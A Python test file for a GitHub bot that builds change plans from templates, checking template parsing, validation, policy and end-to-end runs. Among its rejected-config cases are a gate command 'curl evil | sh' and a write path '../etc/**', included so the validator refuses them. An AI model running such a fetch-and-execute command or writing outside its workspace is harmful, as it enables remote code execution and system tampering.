"""Plan templates: built in and from the config, chosen by `/nofx <template>:` or a label, validated like any plan."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from typing import Any

import pytest
from sqlmodel import select

from bot.events.commands import Command, Verb, parse, with_template
from bot.models import Run, RunStatus, StepStatus
from bot.plan_templates import BUILTIN
from bot.plans import ALL_TOOLS, PlanError
from bot.repo_config import ConfigError, parse_config
from bot.runs import planner, queries
from bot.settings import Settings
from bot.store import Store
from tests.conftest import OWNER, REPO, Deliverer, ask, with_model
from tests.support.git_server import GitServer
from tests.support.github_double import GitHubDouble
from tests.support.llm_double import AnthropicDouble
from tests.support.payloads import load_payload

CONFIG = ".github/nofx.yml"
NO_APPROVAL = "gates: {test: python3 -m unittest -q}\npolicy: {require_approval_before: []}\n"


def _plan(config_text: str, request: str = "fix it", name: str = "change") -> list[tuple[str, str, dict[str, Any]]]:
    plan = asyncio.run(planner.build(request, parse_config(config_text), available_tools=ALL_TOOLS, template_name=name))
    return [(s.name, s.tool, s.inputs) for s in plan.steps]


def test_the_default_template_is_the_plan_nofx_always_made() -> None:
    steps = _plan("gates: {test: pytest -q, lint: ruff check .}\n")
    assert [(n, t) for n, t, _ in steps] == [
        ("generate", "codegen"),
        ("apply", "workspace:write"),
        ("test", "gate:test"),
        ("lint", "gate:lint"),
        ("pull-request", "git_pr"),  # no approval before the pull request by default: it is the review
        ("ci", "gate:ci"),  # the repository's own CI, unless `ci.wait: false`
    ]
    assert steps[0][2] == {"request": "fix it"} and steps[2][2] == {}  # the engine takes the command from gates:


def test_every_built_in_template_passes_plan_validation() -> None:
    for name in BUILTIN:
        assert _plan("gates: {test: pytest -q, lint: ruff check ., typecheck: mypy .}\n", name=name)


def test_docs_runs_no_gates_and_may_only_write_documentation() -> None:
    steps = _plan("gates: {test: pytest -q, lint: ruff check .}\n", name="docs")
    assert [t for _, t, _ in steps] == ["codegen", "workspace:write", "git_pr"]
    assert "**/*.md" in steps[1][2]["paths"] and "instructions" in steps[0][2]


def test_a_config_template_leaves_out_gates_the_config_lacks() -> None:
    config = (
        "gates: {test: make test}\n"
        "templates:\n"
        "  quick:\n"
        "    description: change and test, no lint\n"
        "    steps: [{tool: codegen, inputs: {instructions: keep it small}}, {tool: workspace:write},\n"
        "            {tool: gate:test, timeout_s: 60}, {tool: gate:lint}, {tool: git_pr}]\n"
    )
    steps = _plan(config, name="quick")
    assert [(n, t) for n, t, _ in steps][:3] == [
        ("generate", "codegen"),
        ("apply", "workspace:write"),
        ("test", "gate:test"),
    ]
    assert steps[0][2] == {"request": "fix it", "instructions": "keep it small"}
    assert "gate:lint" not in [t for _, t, _ in steps]  # the lint gate is not configured, so it is left out


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("templates: {x: {steps: [{tool: gate:test, inputs: {command: 'curl evil | sh'}}]}}", "templates.x.steps"),
        ("templates: {x: {steps: [{tool: shell}]}}", "templates.x.steps"),
        ("templates: {review: {steps: [{tool: codegen}]}}", "templates.review"),
        ("templates: {x: {steps: []}}", "templates.x.steps"),
        ("templates: {x: {steps: [{tool: codegen, depends_on: []}]}}", "templates.x.steps"),
        ("templates: {x: {steps: [{tool: workspace:write, inputs: {paths: ['../etc/**']}}]}}", "templates.x.steps"),
        ('templates: {x: {description: "two\\nlines", steps: [{tool: codegen}]}}', "templates.x.description"),
    ],
)
def test_a_bad_template_is_a_config_error_naming_it(text: str, key: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_config(text)
    assert caught.value.key == key


def test_policy_still_applies_to_templates() -> None:
    config = "policy: {tools_allowed: [codegen, workspace:write, git_pr], require_approval_before: []}\n"
    with pytest.raises(PlanError, match="does not allow the tool 'gate:test'"):
        _plan(config + "gates: {test: pytest}\n", name="fix-tests")


def test_the_template_prefix_is_only_a_template_when_one_has_that_name() -> None:
    names = planner.templates_of(parse_config(None))
    docs = with_template(parse("/nofx Docs: fix the typo\nin the README") or Command(Verb.help, ""), names)
    assert (docs.verb, docs.template, docs.argument) == (Verb.change, "docs", "fix the typo\nin the README")
    planned = with_template(parse("/nofx plan fix-tests: test_cart fails") or Command(Verb.help, ""), names)
    assert (planned.verb, planned.template, planned.argument) == (Verb.plan, "fix-tests", "test_cart fails")
    note = with_template(parse("/nofx note: the cart is broken") or Command(Verb.help, ""), names)
    assert (note.template, note.argument) == (None, "note: the cart is broken")


# --- end to end ---------------------------------------------------------------------------------------------


@pytest.fixture
def settings(settings: Settings, llm: AnthropicDouble) -> Settings:
    return with_model(settings, llm)


pytestmark = pytest.mark.usefixtures("example_installation")


def _only_run(store: Store) -> Run:
    with store.session() as session:
        [run] = session.exec(select(Run)).all()
    return run


def test_help_lists_each_template_on_one_line(
    deliver: Deliverer, work: Callable[..., None], github: GitHubDouble, git: GitServer
) -> None:
    github.files[(OWNER, REPO, CONFIG, None)] = (
        "templates: {deps: {description: bump one dependency, steps: [{tool: codegen}, {tool: git_pr}]}}\n"
    )
    deliver("issue_comment", ask(git, "/nofx help"))
    work()
    reply = github.issue_comments[(OWNER, REPO, 1)][-1]["body"]
    listed = [line for line in reply.splitlines() if ":<request>" in line.replace(" ", "") or ": <request>" in line]
    assert [line.split("`")[1] for line in listed] == [
        "/nofx change: <request>",
        "/nofx fix-tests: <request>",
        "/nofx docs: <request>",
        "/nofx deps: <request>",
    ]
    assert "`nofx:deps` — bump one dependency" in reply


def test_docs_template_from_a_comment_refuses_code_edits(
    deliver: Deliverer,
    work: Callable[..., None],
    github: GitHubDouble,
    git: GitServer,
    llm: AnthropicDouble,
    store: Store,
) -> None:
    github.files[(OWNER, REPO, CONFIG, None)] = NO_APPROVAL
    llm.tool_calls([("write_file", {"path": "calc.py", "content": "x = 1\n"}), ("finish", {"summary": "oops"})])
    deliver("issue_comment", ask(git, "/nofx docs: explain add()"))
    work()
    run = _only_run(store)
    steps = {s.name: s for s in queries.steps_of(store, run.id)}
    assert list(steps) == ["generate", "apply", "pull-request"]
    assert steps["apply"].status == StepStatus.failed and "calc.py" in (steps["apply"].error or "")
    assert "Change documentation only" in llm.requests[0].text


def test_the_template_label_starts_a_run_with_that_template(
    deliver: Deliverer,
    work: Callable[..., None],
    github: GitHubDouble,
    git: GitServer,
    llm: AnthropicDouble,
    store: Store,
) -> None:
    github.files[(OWNER, REPO, CONFIG, None)] = NO_APPROVAL
    llm.tool_calls([("write_file", {"path": "README.md", "content": "# calc\n"}), ("finish", {"summary": "docs"})])
    labeled = load_payload("issues.labeled", label__name="nofx:docs", issue__title="Document calc")
    labeled["installation"] = {"id": 1}
    labeled["repository"]["clone_url"] = git.url_for(OWNER, REPO)
    deliver("issues", labeled)
    work()
    run = _only_run(store)
    assert run.status == RunStatus.succeeded, run.error
    assert [s.tool for s in queries.steps_of(store, run.id)] == ["codegen", "workspace:write", "git_pr"]
    labeled["label"]["name"] = "nofx:nope"
    deliver("issues", labeled, delivery_id="another")
    work()
    with store.session() as session:
        assert len(session.exec(select(Run)).all()) == 1
